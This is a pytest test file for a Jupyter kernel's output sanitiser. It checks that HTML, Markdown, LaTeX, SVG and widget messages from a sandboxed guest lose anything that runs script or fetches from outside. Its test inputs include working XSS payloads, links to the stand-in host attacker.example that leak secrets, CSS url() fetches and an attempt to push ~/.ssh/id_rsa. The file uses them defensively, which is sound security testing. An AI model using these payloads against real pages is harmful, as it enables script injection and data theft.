"""The output policy: what of a guest's output a browser may render."""

from __future__ import annotations

import base64
import json

import pytest

from smolvm_kernel.jupyter.markup import sanitize_html, sanitize_markdown
from smolvm_kernel.jupyter.output_policy import OutputPolicy, safe_output


@pytest.fixture
def policy() -> OutputPolicy:
    return OutputPolicy()


@pytest.mark.parametrize("html, gone", [
    ("<script>fetch('/api/contents')</script>", "<script"),
    ("<img src=x onerror=\"fetch('/api/contents')\">", "onerror"),
    ("<a href=\"javascript:alert(1)\">x</a>", "javascript:"),
    ("<a href=\"JaVaScRiPt:alert(1)\">x</a>", "aScRiPt"),
    ("<button data-commandlinker-command=\"terminal:create-new\">open</button>", "commandlinker"),
    ("<iframe src=\"/lab\"></iframe>", "iframe"),
    ("<form action=\"/api/contents\" method=\"post\"><input name=a></form>", "form"),
    ("<svg><script>alert(1)</script></svg>", "script"),
    ("<style>body{display:none}</style>", "display:none"),
    ("<div style=\"position:fixed;top:0\">overlay</div>", "position:fixed"),
    ("<img src=\"https://attacker.example/?secret=1\">", "attacker"),
    ("<a href=\"/api/contents/x\">relative</a>", "/api/contents"),
    ("<a href=\"data:text/html,<script>alert(1)</script>\">d</a>", "data:text/html"),
    ("<object data=\"x.swf\"></object><embed src=\"x\">", "embed"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example\">", "refresh"),
])
def test_html_loses_what_runs_or_reaches_out(html, gone):
    assert gone.lower() not in sanitize_html(html).lower()


def test_safe_html_stays_readable():
    table = ('<table border="1" class="dataframe"><thead><tr><th></th><th>a</th></tr></thead>'
             '<tbody><tr><th>0</th><td>1</td></tr></tbody></table>')
    out = sanitize_html(table)
    assert "<table" in out and "<td>1</td>" in out and "<th>a</th>" in out
    assert sanitize_html('<a href="https://docs.python.org">docs</a>').startswith('<a href="https://docs.python.org"')
    png = "data:image/png;base64,iVBORw0KGgo="
    assert png in sanitize_html(f'<img src="{png}">')


def test_javascript_output_is_replaced_by_a_visible_note(policy):
    data, _ = policy.bundle({"application/javascript": "fetch('/api/contents')",
                             "text/plain": "<IPython.core.display.Javascript object>"})
    assert list(data) == ["text/plain"]
    assert "blocked application/javascript" in data["text/plain"] and "output_allow_mimes" in data["text/plain"]


@pytest.mark.parametrize("mime", ["text/javascript", "application/vnd.bokehjs_exec.v0+json",
                                  "application/vnd.holoviews_exec.v0+json", "application/x-unknown"])
def test_unknown_and_executable_mimes_are_blocked(policy, mime):
    data, _ = policy.bundle({mime: "x", "text/html": "<b>rest</b>"})
    assert mime not in data and data["text/html"] == "<b>rest</b>"
    assert policy.notes and mime in policy.notes[0]      # the relay says so in the cell


def test_allowing_a_mime_lets_it_through():
    data, _ = OutputPolicy(allow_mimes=["application/vnd.plotly.v1+json"]).bundle(
        {"application/vnd.plotly.v1+json": {"data": []}})
    assert data == {"application/vnd.plotly.v1+json": {"data": []}}


def test_svg_becomes_an_image(policy):
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    data, meta = policy.bundle({"image/svg+xml": svg, "text/plain": "<Figure>"},
                               {"image/svg+xml": {"isolated": True}})
    assert "image/svg+xml" not in data and "image/svg+xml" not in meta
    html = data["text/html"]
    assert html.startswith('<img src="data:image/svg+xml;base64,')
    assert base64.b64decode(html.split("base64,")[1].split('"')[0]).decode() == svg   # shown, not run


def test_markdown_links_and_raw_html(policy):
    md = "[click](javascript:alert(1)) [ok](https://example.org) <img src=x onerror=alert(1)>"
    out = sanitize_markdown(md)
    assert "javascript:" not in out and "onerror" not in out and 'href="https://example.org"' in out
    assert sanitize_markdown("# Title\n\n*plain* `code`") == "<h1>Title</h1>\n<p><em>plain</em> <code>code</code></p>\n"


def test_latex_that_links_out_is_shown_as_text(policy):
    data, _ = policy.bundle({"text/latex": r"$\href{javascript:alert(1)}{x}$"})
    assert "text/latex" not in data and "blocked text/latex" in data["text/plain"]
    ok, _ = policy.bundle({"text/latex": r"$\frac{a}{b}$"})
    assert ok == {"text/latex": r"$\frac{a}{b}$"}


def test_trusted_passes_everything():
    bundle = {"application/javascript": "x", "text/html": "<script>y</script>"}
    assert OutputPolicy("trusted").bundle(bundle)[0] == bundle


@pytest.mark.parametrize("text", ["%smolvm push ../../.ssh/id_rsa", "x = 1\n  %smolvm stop", "%%smolvm\nprint(1)"])
def test_next_input_never_carries_a_host_line(policy, text):
    content = {"status": "ok", "payload": [{"source": "set_next_input", "text": text, "replace": True}]}
    assert policy.content("execute_reply", content)["payload"] == []


def test_harmless_payloads_pass_and_pages_are_filtered(policy):
    content = {"status": "ok", "payload": [
        {"source": "set_next_input", "text": "print(1)"},
        {"source": "page", "data": {"text/html": "<script>x</script><b>doc</b>", "text/plain": "doc"}, "start": 0},
        {"source": "something_else"}]}
    payload = policy.content("execute_reply", content)["payload"]
    assert payload[0]["text"] == "print(1)"
    assert payload[1]["data"] == {"text/html": "<b>doc</b>", "text/plain": "doc"}
    assert len(payload) == 2


def test_input_request_says_the_vm_asks(policy):
    assert policy.content("input_request", {"prompt": "Password: ", "password": True})["prompt"] \
        == "[microVM] Password: "


def _open(model_module, model="IntSliderModel", comm_id="w1", buffer_paths=(), **state):
    """A comm_open as ipywidgets 8 sends it (the view is the model's unless given)."""
    return {"comm_id": comm_id, "target_name": "jupyter.widget", "data": {"state": {
        "_model_module": model_module, "_view_module": model_module, "_model_name": model,
        "_model_module_version": "2.0.0", "_view_module_version": "2.0.0",
        "_view_name": model.replace("Model", "View"), **state}, "buffer_paths": list(buffer_paths)}}


def test_widgets_only_from_allowed_modules(policy):
    assert policy.content("comm_open", _open("@jupyter-widgets/controls")) is not None
    assert policy.content("comm_open", _open("evil-widget-from-a-cdn", comm_id="w2")) is None
    assert "evil-widget-from-a-cdn" in policy.notes[0]
    update = {"comm_id": "w1", "data": {"method": "update", "state": {"_view_module": "evil"}}}
    assert policy.content("comm_msg", update) is None
    states = {"comm_id": "ctl", "data": {"method": "update_states", "states": {
        "a": _entry("@jupyter-widgets/base", "LayoutModel"), "b": _entry("evil", "EvilModel")}}}
    assert list(policy.content("comm_msg", states)["data"]["states"]) == ["a"]


def test_html_widgets_and_output_widgets_are_sanitised(policy):
    opened = policy.content("comm_open", _open("@jupyter-widgets/controls", "HTMLModel", "h1",
                                               value="<img src=x onerror=alert(1)>hi",
                                               description="<b>d</b>", description_allow_html=True))
    state = opened["data"]["state"]
    assert "onerror" not in state["value"] and state["description_allow_html"] is False
    later = policy.content("comm_msg", {"comm_id": "h1", "data": {"method": "update", "state": {
        "value": "<script>alert(1)</script>x"}}})
    assert later["data"]["state"]["value"] == "x"
    policy.content("comm_open", _open("@jupyter-widgets/output", "OutputModel", "o1"))
    out = policy.content("comm_msg", {"comm_id": "o1", "data": {"method": "update", "state": {"outputs": [
        {"output_type": "display_data", "data": {"application/javascript": "x"}, "metadata": {}}]}}})
    assert "application/javascript" not in out["data"]["state"]["outputs"][0]["data"]


def test_malformed_content_does_not_raise(policy):
    for msg_type in ("display_data", "execute_result", "update_display_data", "execute_reply",
                     "input_request", "comm_open", "comm_msg"):
        for content in ({}, {"data": 5}, {"data": {"text/html": 7}}, {"payload": "x"}, {"payload": [1, None]},
                        {"data": {"state": []}}, {"data": {"method": "update_states", "states": {"a": 1}}},
                        {"prompt": ["x"]}, {"target_name": "jupyter.widget", "data": {"state": {"_model_module": 1}}}):
            policy.content(msg_type, json.loads(json.dumps(content)))


def test_safe_output_for_sandbox_callers():
    from smolvm_kernel.vm.sandbox import Output

    out = safe_output(Output("display_data", {"data": {"text/html": "<script>x</script><i>ok</i>"}, "metadata": {}}))
    assert out.content["data"]["text/html"] == "<i>ok</i>"


@pytest.mark.parametrize("mime, value", [
    ("text/latex", ["$\\href{javascript:alert(1)}", "{x}$"]),      # a list is rendered joined
    ("text/html", ["<img src=x one", "rror=alert(1)>"]),
    ("text/html", {"not": "text"}),
    ("text/markdown", 7),
    ("image/svg+xml", ["<svg onload=alert(1)>", "</svg>"]),
])
def test_markup_given_as_a_list_or_a_non_string_is_checked_as_rendered(policy, mime, value):
    data, _ = policy.bundle({mime: value, "text/plain": "t"})
    rendered = json.dumps(data)
    assert "javascript:" not in rendered and "onerror" not in rendered and "onload" not in rendered.replace(
        "base64", "")
    assert mime not in data or isinstance(data[mime], str)


# ---------------------------------- widgets by their view, exact types, comm targets, buffers (issue 21)

CONTROLS = "@jupyter-widgets/controls"
XSS = "<img src=x onerror=alert(1)>hi"


def _entry(module, model, **state):
    """One widget of update_states: a frontend creates it from the OUTER module and name."""
    return {"model_module": module, "model_name": model, "model_module_version": "2.0.0",
            "state": {"_model_module": module, "_model_name": model, "_model_module_version": "2.0.0",
                      "_view_module": module, "_view_module_version": "2.0.0",
                      "_view_name": model.replace("Model", "View"), **state}}


def _states(states, buffer_paths=()):
    return {"comm_id": "ctl", "data": {"method": "update_states", "states": states,
                                       "buffer_paths": list(buffer_paths)}}


def _same(msg):
    return json.loads(json.dumps(msg))


def test_a_label_shown_by_the_html_view_is_sanitised(policy):
    """The frontend picks the view from _view_name: a Label model in an HTMLView is innerHTML."""
    opened = policy.content("comm_open", _open(CONTROLS, "LabelModel", "l1", _view_name="HTMLView", value=XSS))
    assert opened is not None and "onerror" not in opened["data"]["state"]["value"]
    later = policy.content("comm_msg", {"comm_id": "l1", "data": {"method": "update", "state": {"value": XSS}}})
    assert "onerror" not in later["data"]["state"]["value"]


def test_a_view_never_changes_after_the_open(policy):
    label = policy.content("comm_open", _open(CONTROLS, "LabelModel", "l2", value="a < b"))
    assert label["data"]["state"]["value"] == "a < b"          # a LabelView shows text: left as it is
    changed = {"comm_id": "l2", "data": {"method": "update", "state": {"_view_name": "HTMLView"}}}
    assert policy.content("comm_msg", changed) is None and "_view_name" in policy.notes[-1]


def test_unknown_core_views_are_refused(policy):
    assert policy.content("comm_open", _open(CONTROLS, "LabelModel", "l3", _view_name="EvilView")) is None
    assert "EvilView" in policy.notes[0]


@pytest.mark.parametrize("value", [[XSS], {"a": XSS}, 7])
@pytest.mark.parametrize("model, view", [("HTMLModel", "HTMLView"), ("LabelModel", "HTMLView"),
                                         ("HTMLMathModel", "HTMLMathView")])
def test_an_html_value_must_be_a_string(policy, value, model, view):
    """The browser stringifies a one-element list into innerHTML."""
    assert policy.content("comm_open", _open(CONTROLS, model, "h2", _view_name=view, value=value)) is None
    assert "not a string" in policy.notes[0]


@pytest.mark.parametrize("key", ["_model_module", "_model_name", "_model_module_version", "_view_module",
                                 "_view_name", "_view_module_version", "description", "tooltip"])
def test_protocol_keys_and_descriptions_must_be_strings(policy, key):
    msg = _open(CONTROLS, "LabelModel", "t1", description="d", tooltip="t")
    msg["data"]["state"][key] = [msg["data"]["state"][key]]
    try:
        assert policy.content("comm_open", msg) is None and key in policy.notes[0]
    except TypeError:      # the old code raised on an unhashable module name: a failure too
        pytest.fail("raised on a list")


@pytest.mark.parametrize("target", [["jupyter.widget"], {"t": 1}, None, 7])
def test_a_comm_target_must_be_a_string(policy, target):
    msg = _open(CONTROLS, "HTMLModel", "c1", value=XSS)
    msg["target_name"] = target
    assert policy.content("comm_open", msg) is None and "target_name" in policy.notes[0]


def test_a_target_module_is_refused_and_other_targets_pass(policy):
    """Classic Notebook loads target_module as a require.js module: a script from anywhere."""
    msg = {"comm_id": "c2", "target_name": "my.lib", "target_module": "https://attacker.example/x.js", "data": {}}
    assert policy.content("comm_open", msg) is None and "target_module" in policy.notes[0]
    lib = {"comm_id": "c3", "target_name": "my.lib", "target_module": None, "data": {"x": 1}}
    assert policy.content("comm_open", _same(lib)) == lib      # a library's own comm, for its extension
    own = {"comm_id": "c3", "data": {"state": {"anything": [1]}}}
    assert policy.content("comm_msg", _same(own)) == own
    for target in ("jupyter.widget.control", "jupyter.widget.version"):   # a frontend opens those
        assert policy.content("comm_open", {"comm_id": target, "target_name": target, "data": {}}) is None


def test_a_comm_is_opened_once(policy):
    """A second open of the same id would change what its later updates are checked as."""
    lib = {"comm_id": "x1", "target_name": "my.lib", "data": {}}
    assert policy.content("comm_open", _same(lib)) == lib
    assert policy.content("comm_open", _open(CONTROLS, "LabelModel", "x1", _view_name="HTMLView")) is None
    assert policy.content("comm_open", _open(CONTROLS, "LabelModel", "x2", value="t")) is not None
    assert policy.content("comm_open", _same({**lib, "comm_id": "x2"})) is None


def test_update_states_checks_the_outer_module_the_frontend_loads(policy):
    """_loadFromKernel creates each model from the entry's OUTER model_module/model_name."""
    evil_outer = _entry(CONTROLS, "IntSliderModel")
    evil_outer["model_module"] = "https://attacker.example/evil.js"
    mismatch = _entry(CONTROLS, "IntSliderModel")
    mismatch["model_name"] = "HTMLModel"
    no_outer = _entry(CONTROLS, "IntSliderModel")
    del no_outer["model_module"]
    listy = _entry(CONTROLS, "IntSliderModel")
    listy["model_module"] = [CONTROLS]
    out = policy.content("comm_msg", _states({
        "evil_outer": evil_outer, "mismatch": mismatch, "no_outer": no_outer, "listy": listy,
        "ok": _entry(CONTROLS, "IntSliderModel", value=3),
        "html": _entry(CONTROLS, "LabelModel", _view_name="HTMLView", value=XSS),
        "nothing": {"state": {"value": XSS}}}))     # no module, no model: a frontend can make nothing of it
    assert sorted(out["data"]["states"]) == ["html", "nothing", "ok"]
    assert "onerror" not in out["data"]["states"]["html"]["state"]["value"]
    assert any("attacker.example" in n for n in policy.notes)


def test_update_states_cannot_change_a_known_widget(policy):
    policy.content("comm_open", _open(CONTROLS, "LabelModel", "k1", value="x"))
    turned = _entry(CONTROLS, "LabelModel", _view_name="HTMLView")
    assert policy.content("comm_msg", _states({"k1": turned}))["data"]["states"] == {}


@pytest.mark.parametrize("path", [["_view_name"], ["_model_module"], ["description"], ["value"],
                                  ["__proto__", "x"], ["outputs", 0, "data", "text/html"], ["layout"],
                                  ["format"], "value", [True], []])
def test_buffers_replace_only_plain_data(policy, path):
    """A buffer is put at its path by the frontend: never a protocol key, markup or a prototype."""
    msg = _open(CONTROLS, "HTMLModel", "b1", buffer_paths=[path], value="x")
    assert policy.content("comm_open", msg) is None
    policy.content("comm_open", _open(CONTROLS, "ImageModel", "b2", format="png"))
    update = {"comm_id": "b2", "data": {"method": "update", "state": {}, "buffer_paths": [path]}}
    if path != ["value"]:           # an image's value is its bytes
        assert policy.content("comm_msg", update) is None


def test_update_states_buffers_replace_only_plain_data(policy):
    ok = _states({"img": _entry(CONTROLS, "ImageModel", format="png")}, [["img", "state", "value"]])
    assert policy.content("comm_msg", _same(ok)) == ok
    for path in (["img", "model_module"], ["img", "state", "_view_name"], ["img", "state", "__proto__"],
                 ["__proto__", "state", "value"], "img"):
        bad = _states({"img": _entry(CONTROLS, "ImageModel", format="png")}, [path])
        assert policy.content("comm_msg", bad) is None
    # the path of a widget that is not (or no longer) in states: the frontend skips it
    refused = _states({"img": _entry(CONTROLS, "ImageModel", format="png"),
                       "url": _entry(CONTROLS, "ImageModel", format="url")},
                      [["img", "state", "value"], ["url", "state", "value"]])
    assert list(policy.content("comm_msg", refused)["data"]["states"]) == ["img"]


@pytest.mark.parametrize("model", ["ImageModel", "AudioModel", "VideoModel"])
def test_media_widgets_load_no_url(policy, model):
    """format="url": the frontend decodes the value into the src of an <img>/<audio>/<video>."""
    assert policy.content("comm_open", _open(CONTROLS, model, "m1", buffer_paths=[["value"]], format="url")) is None
    assert 'format="url"' in policy.notes[0]
    assert policy.content("comm_open", _open(CONTROLS, model, "m2", buffer_paths=[["value"]], format="png"))
    later = {"comm_id": "m2", "data": {"method": "update", "state": {"format": "url"}, "buffer_paths": []}}
    assert policy.content("comm_msg", later) is None
    assert policy.content("comm_msg", _states({"m3": _entry(CONTROLS, model, format="url")}))["data"]["states"] == {}


@pytest.mark.parametrize("value", ["url(https://attacker.example/?d=1)", "red URL( 'x' )",
                                   "image-set('https://attacker.example' 1x)", "u\\72l(https://attacker.example)",
                                   ["url(https://attacker.example)"]])
def test_widget_styles_load_nothing(policy, value):
    """HTMLStyle.background is set as CSS: url() would fetch from the browser."""
    msg = _open(CONTROLS, "HTMLStyleModel", "s1", _view_name="StyleView", background=value)
    assert policy.content("comm_open", msg) is None


def test_an_update_for_an_unknown_widget_needs_its_full_state(policy):
    assert policy.content("comm_msg", {"comm_id": "zz", "data": {"method": "update", "state": {"value": XSS}}}) is None
    full = _open(CONTROLS, "LabelModel", "zz", _view_name="HTMLView", value=XSS)["data"]
    out = policy.content("comm_msg", {"comm_id": "zz", "data": {"method": "update", **full}})
    assert "onerror" not in out["data"]["state"]["value"]


def test_ordinary_widgets_pass_unchanged(policy):
    for msg in (_open(CONTROLS, "IntSliderModel", "s", value=3, description="n", layout="IPY_MODEL_l"),
                _open(CONTROLS, "HTMLModel", "h", value="<b>bold</b> <i>x</i>"),
                _open("@jupyter-widgets/output", "OutputModel", "o", outputs=[
                    {"output_type": "stream", "name": "stdout", "text": "hi\n"}]),
                _open("@jupyter-widgets/base", "LayoutModel", "l", width="50%", grid_template_areas='"a b"'),
                _open(CONTROLS, "ButtonStyleModel", "bs", _view_name="StyleView", button_color="rgb(1, 2, 3)",
                      font_weight="bold"),
                _open(CONTROLS, "HTMLStyleModel", "hs", _view_name="StyleView", background="#eee"),
                _open(CONTROLS, "ImageModel", "img", buffer_paths=[["value"]], format="png"),
                _open(CONTROLS, "FileUploadModel", "f", buffer_paths=[["value", 0, "content"]],
                      value=[{"name": "a.txt"}])):
        assert policy.content("comm_open", _same(msg)) == msg
    for data in ({"method": "update", "state": {"value": 4}, "buffer_paths": []},
                 {"method": "echo_update", "state": {"value": 5}},
                 {"method": "custom", "content": {"event": "click"}}):
        msg = {"comm_id": "s", "data": data}
        assert policy.content("comm_msg", _same(msg)) == msg
    assert not policy.notes


# ------------------------------------------- Markdown: rendered on the host, sanitised as HTML (issue 21)

@pytest.mark.parametrize("md, gone", [
    ("![](https://attacker.example/?d=secret)", "attacker"),                 # a remote image: data out
    ('<img src="https://attacker.example/?d=secret">', "attacker"),
    ("[x][r]\n\n[r]: javascript:alert(1)", "alert"),                         # a reference link
    ("[x](java&#115;cript:alert(1))", "alert"),                              # an entity
    ("[x](javascript\\:alert(1))", "alert"),                                 # a backslash escape
    ("[x](<javascript:alert(1)>)", "alert"),
    ("<javascript:alert(1)>", "href"),                                        # an autolink
    ("[x](data:text/html,<script>alert(1)</script>)", "data:"),
    ("<img src=x onerror=alert(1)>", "onerror"),
])
def test_markdown_cannot_run_or_fetch(policy, md, gone):
    assert gone not in sanitize_markdown(md).lower()
    data, _ = policy.bundle({"text/markdown": md, "text/plain": "md"}, {"text/markdown": {"x": 1}})
    assert "text/markdown" not in data and gone not in data["text/html"].lower()


def test_ordinary_markdown_still_reads(policy):
    md = ("# Results\n\nSee [the docs](https://docs.python.org) and `x = 1`, **bold**.\n\n"
          "| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n$x_1^2 < y$\n\n![plot](data:image/png;base64,iVBORw0KGgo=)\n")
    data, meta = policy.bundle({"text/markdown": md, "text/plain": "md"})
    html = data["text/html"]
    assert "<h1>Results</h1>" in html and 'href="https://docs.python.org"' in html
    assert "<code>x = 1</code>" in html and "<strong>bold</strong>" in html and "<li>one</li>" in html
    assert "<td>1</td>" in html and "x_1^2 &lt; y" in html and 'src="data:image/png;base64,' in html
    assert data["text/plain"] == "md" and not policy.notes
    # a bundle with HTML of its own keeps it (sanitised); the Markdown is not sent
    both, _ = policy.bundle({"text/markdown": "*m*", "text/html": "<b>h</b>"})
    assert both == {"text/html": "<b>h</b>"}
